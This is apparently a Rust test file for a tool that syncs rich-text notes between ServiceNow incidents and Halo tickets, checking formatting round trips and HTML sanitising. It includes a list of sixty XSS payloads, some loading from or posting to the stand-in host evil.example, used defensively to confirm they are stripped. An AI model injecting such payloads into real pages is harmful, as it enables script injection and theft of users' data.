//! Rich text both ways: it keeps its lists, links and tables, comes back as it was, and carries nothing
//! that runs or calls home.

use causeway::profile::NoteFormatting;
use serde_json::json;

use crate::support::world::World;

/// A world with one linked pair: the incident and its ticket.
async fn pair() -> (World, String, i64) {
    let world = World::new().await;
    let incident = world.incident(&[("short_description", "VPN drops")]);
    world.first_load().await;
    let ticket = world.ticket_of(&incident);
    (world, incident, ticket)
}

/// The HTML and the text of the ticket's action that holds this text.
fn action(world: &World, ticket: i64, text: &str) -> (String, String) {
    let said = |action: &serde_json::Value, name: &str| action[name].as_str().unwrap_or_default().to_owned();
    let actions = world.halo().actions(ticket);
    let found: Vec<_> = actions.iter().filter(|action| said(action, "note_html").contains(text)).collect();
    assert_eq!(found.len(), 1, "{text} is there once: {actions:#?}");
    (said(found[0], "note_html"), said(found[0], "note"))
}

/// The journal entries of an incident that hold this text.
fn entries(world: &World, incident: &str, text: &str) -> Vec<String> {
    let entries = world.servicenow().journal(incident);
    entries.into_iter().map(|entry| entry.value).filter(|value| value.contains(text)).collect()
}

const FORMATTED: &str = "<p>Please <b>check</b>:</p><ol><li>the cable</li><li><a href=\"https://example.com/kb/7\">the \
                         article</a></li></ol><table><tr><td>eth0</td><td>down</td></tr></table>";

#[tokio::test]
async fn a_formatted_note_goes_out_in_words_or_as_a_block_and_is_not_sent_back() {
    let words = "Please check:\n1. the cable\n2. the article (https://example.com/kb/7)\neth0 | down";
    let block = "[code]<p>Please <b>check</b>:</p><ol><li>the cable</li><li><a href=\"https://example.com/kb/7\">the \
                 article</a></li></ol><table><tbody><tr><td>eth0</td><td>down</td></tr></tbody></table>[/code]";
    for (formatting, expected) in [(NoteFormatting::Plain, words), (NoteFormatting::CodeBlocks, block)] {
        let (world, incident, ticket) = pair().await;
        world.change_profile(|profile| profile.notes.formatting = formatting).await;
        let note = json!({"outcome_id": 8, "note_html": FORMATTED});
        world.halo().add_action("Abel Tuter", ticket, note).unwrap();
        world.settle().await;
        let sent = entries(&world, &incident, "the cable");
        assert_eq!(sent.len(), 1, "{formatting:?}");
        assert_eq!(sent[0].split_once('\n').unwrap().1, expected, "{formatting:?}, below the header");
    }
}

#[tokio::test]
async fn a_journal_block_is_formatted_in_halo_and_plain_text_keeps_its_lines_and_blanks() {
    let (world, incident, ticket) = pair().await;
    let entry =
        "See:\n[code]<ul><li>one</li><li>two &amp; more</li></ul><a href=\"https://example.com\">page</a>[/code]\nBye";
    world.edit_incident(&incident, &[("comments", entry)]);
    world.edit_incident(&incident, &[("work_notes", "if x < 1:\r\n    y = \"2\"\r\n\r\n\u{1f697} é")]);
    world.settle().await;
    let (html, _) = action(&world, ticket, "two &amp; more");
    let (_header, body) = html.split_once("<br>").unwrap();
    let expected =
        "See:<br><ul><li>one</li><li>two &amp; more</li></ul><a href=\"https://example.com\">page</a><br>Bye";
    assert_eq!(body, expected);
    let (html, text) = action(&world, ticket, "if x &lt; 1:");
    assert!(html.contains("<br>&nbsp;&nbsp;&nbsp;&nbsp;y = &quot;2&quot;<br><br>\u{1f697} é"), "{html}");
    assert!(text.contains("y = \"2\""), "{text}");
}

/// Sixty ways to run a script, to load something, or to take over a page.
fn payloads() -> Vec<String> {
    let mut payloads: Vec<String> = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<applet code=Evil></applet>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example/p)}</style>",
        "<div style=\"background:url(https://evil.example/p)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<select onfocus=alert(1) autofocus></select>",
        "<video src=x onerror=alert(1)></video>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex action=javascript:alert(1)>",
        "<frameset onload=alert(1)></frameset>",
        "<table background=\"https://evil.example/p\"><tr><td>x</td></tr></table>",
        "<td background=\"javascript:alert(1)\">x</td>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<xmp><script>alert(1)</script></xmp>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"https://example.com\" onclick=\"alert(1)\">x</a>",
        "<a href=\"https://example.com\" target=_top ping=\"https://evil.example\">x</a>",
    ]
    .map(str::to_owned)
    .into();
    for image in [
        "src=x onerror=alert(1)",
        "src=\"https://evil.example/pixel.gif\" width=1 height=1",
        "src=\"javascript:alert(1)\"",
        "srcset=\"https://evil.example/p 1x\"",
        "src=x:alert(1) onerror=eval(src)",
        "src=\"data:image/svg+xml;base64,PHN2Zy8+\"",
        "\"\"><script>alert(1)</script>\"",
        "src=`x` onmouseover=alert(1)",
        "dynsrc=\"javascript:alert(1)\"",
        "alt=\"<script>alert(1)</script>\" src=a.png",
    ] {
        payloads.push(format!("<img {image}>"));
    }
    payloads
}

/// What a browser would see as tags, with their attributes, lower case.
fn tags(html: &str) -> Vec<String> {
    html.match_indices('<')
        .filter_map(|(at, _)| {
            let rest = &html[at + 1..];
            rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '!' || c == '?')
                .then(|| rest.split_once('>').map_or(rest, |(tag, _)| tag).to_lowercase())
        })
        .collect()
}

fn assert_harmless(html: &str, of: &str) {
    let names = [
        "p", "b", "i", "br", "a", "ul", "ol", "li", "table", "tbody", "tr", "td", "th", "div", "span", "strong", "em",
        "pre", "code",
    ];
    for tag in tags(html) {
        let (name, attributes) = tag.split_once([' ', '/']).unwrap_or((&tag, ""));
        assert!(names.contains(&name), "{of} became <{tag}> in {html}");
        let allowed = attributes.is_empty()
            || attributes.starts_with("href=\"https://")
            || attributes.starts_with("href=\"http://")
            || attributes.starts_with("href=\"mailto:")
            || attributes.starts_with("colspan=");
        assert!(allowed && !attributes.contains(" on"), "{of} became <{tag}> in {html}");
    }
}

#[tokio::test]
async fn sixty_payloads_are_carried_neither_to_halo_nor_to_servicenow() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 60);
    let (world, incident, ticket) = pair().await;
    world
        .change_profile(|profile| {
            profile.notes.formatting = NoteFormatting::CodeBlocks;
            profile.limits.public_notes.number = 1_000;
            profile.limits.visible_texts.number = 1_000;
        })
        .await;
    for (at, payload) in payloads.iter().enumerate() {
        let note = json!({"outcome_id": 8, "note_html": format!("<p>out {at}: <b>x</b> {payload}</p>")});
        world.halo().add_action("Abel Tuter", ticket, note).unwrap();
        let entry = format!("in {at}: [code]<b>x</b> {payload}[/code] and plain {payload}");
        world.edit_incident(&incident, &[("work_notes", &entry)]);
    }
    world.settle().await;
    let (mut out, mut into) = (0, 0);
    for entry in world.servicenow().journal(&incident) {
        // What stands outside a block is plain text there and is never read as HTML.
        let ours = entry.value.starts_with("Halo ");
        if let (true, Some((_, block))) = (ours, entry.value.split_once("[code]")) {
            out += 1;
            let (html, after) = block.rsplit_once("[/code]").unwrap();
            assert_eq!(after, "");
            assert!(!html.contains("[/code]"));
            assert_harmless(html, &entry.value);
        }
    }
    for action in world.halo().actions(ticket) {
        let html = action["note_html"].as_str().unwrap_or_default();
        if html.contains("INC") && html.contains("and plain") {
            into += 1;
            assert_harmless(html, html);
        }
    }
    assert_eq!((out, into), (60, 60), "all of them arrived, without what they carried");
}

#[tokio::test]
async fn a_block_that_is_typed_in_halo_carries_nothing_either() {
    let (world, incident, ticket) = pair().await;
    let note = json!({"outcome_id": 8, "note": "look [code]<img src=x onerror=alert(1)><b>there</b>[/code] <i>so</i>"});
    world.halo().add_action("Abel Tuter", ticket, note).unwrap();
    world.settle().await;
    let sent = entries(&world, &incident, "look ");
    assert_eq!(sent[0].split_once('\n').unwrap().1, "look [code][image: x]<b>there</b>[/code] <i>so</i>");
}

/// Everything that notes are made of: lists in lists, a link, a table, code with its blanks, an image that is
/// only named, several alphabets.
const EVERYTHING: &str = "<p>Bitte <b>pr\u{fc}fen</b>, \u{8acb}\u{78ba}\u{8a8d} \u{1f697}:</p>\r\n<ul><li>cable<ol><li>blue</li><li>green</li></ol></li>\
                          <li><a href=\"https://example.com/kb?a=1&amp;b=2\">article</a></li></ul><table><tr><th>port</th>\
                          <th>state</th></tr><tr><td>eth0</td><td>down</td></tr></table><pre>if x &lt; 1:\n    y = \"2\"\n</pre>\
                          <p><img src=\"plan.png\" alt=\"the plan\"> and <code>ip link</code></p>";

#[tokio::test]
async fn lists_links_tables_code_images_and_unicode_are_the_same_after_there_and_back() {
    let (world, incident, ticket) = pair().await;
    world.change_profile(|profile| profile.notes.formatting = NoteFormatting::CodeBlocks).await;
    world.halo().add_action("Abel Tuter", ticket, json!({"outcome_id": 8, "note_html": EVERYTHING})).unwrap();
    world.settle().await;
    let sent = entries(&world, &incident, "cable");
    let (_header, block) = sent[0].split_once('\n').unwrap();
    let html = block.strip_prefix("[code]").and_then(|block| block.strip_suffix("[/code]")).unwrap();
    for kept in [
        "<b>pr\u{fc}fen</b>, \u{8acb}\u{78ba}\u{8a8d} \u{1f697}",
        "<ul><li>cable<ol><li>blue</li><li>green</li></ol></li>",
        "<a href=\"https://example.com/kb?a=1&amp;b=2\">article</a>",
        "<td>eth0</td><td>down</td>",
        "if x &lt; 1:\n    y = \"2\"",
        "[image: the plan]",
        "<code>ip link</code>",
    ] {
        assert!(html.contains(kept), "{kept} is kept in {html}");
    }
    assert!(!html.contains('\r'), "one kind of line end: {html}");

    // Somebody there says the same, and it comes back as it went.
    world.edit_incident(&incident, &[("comments", &format!("again: {block}"))]);
    world.settle().await;
    let (back, _) = action(&world, ticket, "again: ");
    assert!(back.ends_with(&format!("again: {html}")) || back.contains(html), "{back}\nis not\n{html}");
    assert_eq!(entries(&world, &incident, "cable").len(), 2, "nothing goes round in circles");
}

#[tokio::test]
async fn as_plain_text_the_same_note_says_its_lists_links_tables_code_and_images_in_words() {
    let (world, incident, ticket) = pair().await;
    world.halo().add_action("Abel Tuter", ticket, json!({"outcome_id": 8, "note_html": EVERYTHING})).unwrap();
    world.settle().await;
    let sent = entries(&world, &incident, "cable");
    for said in [
        "Bitte pr\u{fc}fen, \u{8acb}\u{78ba}\u{8a8d} \u{1f697}:",
        "article (https://example.com/kb?a=1&b=2)",
        "eth0 | down",
        "if x < 1:\n    y = \"2\"",
        "[image: the plan]",
    ] {
        assert!(sent[0].contains(said), "{said} is said in {}", sent[0]);
    }
    let windows = "one\r\ntwo\r\n\r\n    three";
    world.edit_incident(&incident, &[("comments", windows)]);
    world.settle().await;
    let (html, text) = action(&world, ticket, "three");
    assert!(html.contains("one<br>two<br><br>&nbsp;&nbsp;&nbsp;&nbsp;three"), "{html}");
    assert!(text.contains("one") && text.contains("two"), "{text}");
}
